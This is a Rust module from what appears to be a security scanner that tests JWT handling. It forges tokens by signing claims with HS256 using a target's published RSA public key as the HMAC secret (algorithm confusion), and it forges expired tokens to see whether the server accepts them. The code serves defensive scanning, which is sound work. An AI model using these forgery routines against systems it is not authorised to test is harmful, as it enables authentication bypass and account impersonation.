//! JWT attacks that need a signing key the server accepts:
//!
//! * RS/HS algorithm confusion (JWT-006): when the first user's token is RSA-signed and the
//!   target publishes its public key (a JWKS at `/.well-known/jwks.json` or `/jwks.json`, or
//!   the `jwks_uri` of `/.well-known/openid-configuration` on the same origin), the token's
//!   claims are signed with HS256 using the public key (PEM, PKCS#8 and PKCS#1, with and
//!   without the final newline) as the HMAC secret. Reported when the probe operation (a
//!   secured GET that refuses anonymous calls) answers exactly as it does for the real token.
//! * expired tokens (JWT-005): with a key the server is known to accept (the HMAC secret
//!   guessed offline, or the public key of a confirmed confusion), a token with the same
//!   claims is signed twice: as is (the control, which must be accepted) and with `exp` a day
//!   in the past. Reported when the expired one is accepted too. Without such a key the check
//!   cannot forge a valid expired token and does not run.

use base64::Engine;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::Value;

use super::same_data;
use crate::http::{Exchange, Request};
use crate::scan::{Scan, Stop};
use crate::session::{Jwt, Who};

/// Paths where a target publishes its keys.
const JWKS_PATHS: &[&str] = &["/.well-known/jwks.json", "/jwks.json"];

fn der_len(len: usize, out: &mut Vec<u8>) {
    if len < 0x80 {
        out.push(u8::try_from(len).unwrap_or(0));
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | u8::try_from(bytes.len()).unwrap_or(0));
        out.extend(bytes);
    }
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    der_len(content.len(), &mut out);
    out.extend_from_slice(content);
    out
}

fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
    let mut content = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
        content.push(0);
    }
    content.extend(trimmed);
    der(0x02, &content)
}

fn pem(label: &str, der: &[u8]) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for chunk in b64.as_bytes().chunks(64) {
        out.push_str(&String::from_utf8_lossy(chunk));
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

/// The PEM forms of an RSA public key given by its JWK `n` and `e` (base64url): PKCS#8
/// (`PUBLIC KEY`) and PKCS#1 (`RSA PUBLIC KEY`), each with and without the final newline.
pub fn rsa_pems(n: &str, e: &str) -> Option<Vec<String>> {
    let decode = |s: &str| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(s.trim_end_matches('='))
            .ok()
    };
    let (n, e) = (decode(n)?, decode(e)?);
    let mut ints = der_uint(&n);
    ints.extend(der_uint(&e));
    let pkcs1 = der(0x30, &ints);
    let mut algorithm = der(
        0x06,
        &[0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01],
    );
    algorithm.extend([0x05, 0x00]);
    let mut bits = vec![0u8];
    bits.extend(&pkcs1);
    let mut spki = der(0x30, &algorithm);
    spki.extend(der(0x03, &bits));
    let spki = der(0x30, &spki);
    let mut out = Vec::new();
    for p in [pem("PUBLIC KEY", &spki), pem("RSA PUBLIC KEY", &pkcs1)] {
        out.push(p.trim_end().to_owned());
        out.push(p);
    }
    Some(out)
}

/// Signs `claims` under `header` (its `alg` set to `alg`) with an HMAC `secret`.
pub fn sign(header: &Value, claims: &Value, alg: Algorithm, secret: &[u8]) -> Option<String> {
    let mut header = header.clone();
    let name = match alg {
        Algorithm::HS256 => "HS256",
        Algorithm::HS384 => "HS384",
        Algorithm::HS512 => "HS512",
        _ => return None,
    };
    header
        .as_object_mut()?
        .insert("alg".into(), Value::String(name.into()));
    let unsigned = Jwt::encode(&header, claims, "");
    let input = unsigned.trim_end_matches('.');
    let signature =
        jsonwebtoken::crypto::sign(input.as_bytes(), &EncodingKey::from_secret(secret), alg)
            .ok()?;
    Some(format!("{input}.{signature}"))
}

/// The RSA public keys the target publishes, as (where, PEM forms).
async fn public_keys(scan: &mut Scan<'_>) -> Result<Vec<(String, Vec<String>)>, Stop> {
    let mut paths: Vec<String> = JWKS_PATHS.iter().map(|p| (*p).to_owned()).collect();
    if let Some(x) = scan
        .send(
            Request::new("GET", "/.well-known/openid-configuration"),
            None,
        )
        .await?
        && let Some(uri) = x
            .json
            .as_ref()
            .and_then(|j| j.get("jwks_uri"))
            .and_then(Value::as_str)
        && scan.client.target().in_scope(uri)
        && let Ok(url) = url::Url::parse(uri)
    {
        paths.insert(0, url.path().to_owned());
    }
    paths.dedup();
    for path in paths {
        let Some(x) = scan.send(Request::new("GET", path.clone()), None).await? else {
            continue;
        };
        let Some(keys) = x
            .json
            .as_ref()
            .filter(|_| x.ok())
            .and_then(|j| j.get("keys"))
            .and_then(Value::as_array)
        else {
            continue;
        };
        let found: Vec<(String, Vec<String>)> = keys
            .iter()
            .filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA"))
            .filter_map(|k| {
                let pems = rsa_pems(k.get("n")?.as_str()?, k.get("e")?.as_str()?)?;
                Some((x.url.clone(), pems))
            })
            .take(3)
            .collect();
        if !found.is_empty() {
            return Ok(found);
        }
    }
    Ok(Vec::new())
}

/// Sends the probe with `token` in place of the first user's.
async fn try_token(
    scan: &mut Scan<'_>,
    op: usize,
    mine: &Exchange,
    token: &str,
) -> Result<Option<Exchange>, Stop> {
    let Some(t) = scan.users.first().and_then(|s| s.token.clone()) else {
        return Ok(None);
    };
    let mut request = scan.as_who(mine.request.clone(), Who::Anon);
    request.set_header(&t.header, format!("{}{token}", t.prefix));
    scan.send(request, Some(op)).await
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| i64::try_from(d.as_secs()).unwrap_or(0))
}

/// Runs the checks.
pub async fn run(scan: &mut Scan<'_>) -> Result<(), Stop> {
    let Some(jwt) = scan.users.first().and_then(|s| s.jwt()) else {
        return Ok(());
    };
    let name = scan
        .users
        .first()
        .map(|s| s.name.clone())
        .unwrap_or_default();
    let Some((op, mine)) = super::jwt::probe(scan).await? else {
        return Ok(());
    };
    let mut key: Option<(Vec<u8>, Algorithm, String)> = super::jwt::crack(&jwt).map(|s| {
        let alg = match jwt.alg() {
            "HS384" => Algorithm::HS384,
            "HS512" => Algorithm::HS512,
            _ => Algorithm::HS256,
        };
        (
            s.into_bytes(),
            alg,
            "the HMAC secret guessed offline (JWT-004)".to_owned(),
        )
    });
    if jwt.alg().starts_with("RS") || jwt.alg().starts_with("PS") {
        'keys: for (source, pems) in public_keys(scan).await? {
            for pem in pems {
                let Some(forged) = sign(&jwt.header, &jwt.claims, Algorithm::HS256, pem.as_bytes())
                else {
                    continue;
                };
                let Some(answer) = try_token(scan, op, &mine, &forged).await? else {
                    continue;
                };
                if same_data(&answer, &mine) {
                    let form = if pem.contains("RSA PUBLIC") {
                        "PKCS#1"
                    } else {
                        "PKCS#8"
                    };
                    scan.report(
                        "PC-SCAN-JWT-006",
                        Some(op),
                        &answer,
                        format!(
                            "{} {} accepted {name}'s claims signed with HS256 and the public key published at {source} as the secret",
                            answer.request.method,
                            crate::plan::path_only(&answer.request.path)
                        ),
                        format!(
                            "the {form} PEM of the published RSA key, used as an HMAC secret, signs a token that gets the same answer as the real {} token; the same request without a token is refused",
                            jwt.alg()
                        ),
                    );
                    key = Some((
                        pem.into_bytes(),
                        Algorithm::HS256,
                        format!("the public key of {source} (JWT-006)"),
                    ));
                    break 'keys;
                }
            }
        }
    }
    let Some((secret, alg, source)) = key else {
        return Ok(());
    };
    let Some(fresh) = sign(&jwt.header, &jwt.claims, alg, &secret) else {
        return Ok(());
    };
    let Some(control) = try_token(scan, op, &mine, &fresh).await? else {
        return Ok(());
    };
    if !same_data(&control, &mine) {
        return Ok(());
    }
    let mut claims = jwt.claims.clone();
    let t = now();
    if let Some(c) = claims.as_object_mut() {
        c.insert("exp".into(), Value::from(t - 86_400));
        c.insert("iat".into(), Value::from(t - 90_000));
        if c.contains_key("nbf") {
            c.insert("nbf".into(), Value::from(t - 90_000));
        }
    }
    let Some(expired) = sign(&jwt.header, &claims, alg, &secret) else {
        return Ok(());
    };
    let Some(answer) = try_token(scan, op, &mine, &expired).await? else {
        return Ok(());
    };
    if same_data(&answer, &mine) {
        scan.report(
            "PC-SCAN-JWT-005",
            Some(op),
            &answer,
            format!(
                "{} {} accepted {name}'s token with `exp` a day in the past",
                answer.request.method,
                crate::plan::path_only(&answer.request.path)
            ),
            format!(
                "signed with {source}: the same claims as is were accepted (the control), and with exp={} (a day ago) got the same answer; the same request without a token is refused",
                t - 86_400
            ),
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
    use super::*;
    use jsonwebtoken::{DecodingKey, Validation};
    use serde_json::json;

    /// The PEMs built from a JWK's `n` and `e` are byte for byte what the `rsa` crate writes
    /// for the same key.
    #[test]
    fn pems_from_jwk_components_match_the_rsa_crate() {
        use base64::engine::general_purpose::URL_SAFE_NO_PAD;
        use rsa::pkcs1::EncodeRsaPublicKey;
        use rsa::pkcs8::{EncodePublicKey, LineEnding};
        use rsa::traits::PublicKeyParts;
        let private = rsa::RsaPrivateKey::new(&mut rand::thread_rng(), 512).unwrap();
        let public = rsa::RsaPublicKey::from(&private);
        let n = URL_SAFE_NO_PAD.encode(public.n().to_bytes_be());
        let e = URL_SAFE_NO_PAD.encode(public.e().to_bytes_be());
        let pems = rsa_pems(&n, &e).unwrap();
        assert_eq!(pems.len(), 4);
        assert_eq!(pems[1], public.to_public_key_pem(LineEnding::LF).unwrap());
        assert_eq!(pems[3], public.to_pkcs1_pem(LineEnding::LF).unwrap());
        assert_eq!(pems[0], pems[1].trim_end());
        assert!(rsa_pems("!!", &e).is_none());
    }

    #[test]
    fn hmac_signed_tokens_verify_with_their_secret() {
        let t = sign(
            &json!({"alg": "RS256", "kid": "k"}),
            &json!({"sub": "a", "exp": 4_000_000_000u64}),
            Algorithm::HS256,
            b"k3y",
        )
        .unwrap();
        let mut v = Validation::new(Algorithm::HS256);
        v.required_spec_claims.clear();
        let data =
            jsonwebtoken::decode::<Value>(&t, &DecodingKey::from_secret(b"k3y"), &v).unwrap();
        assert_eq!(data.claims["sub"], "a");
        assert_eq!(data.header.kid.as_deref(), Some("k"));
    }
}
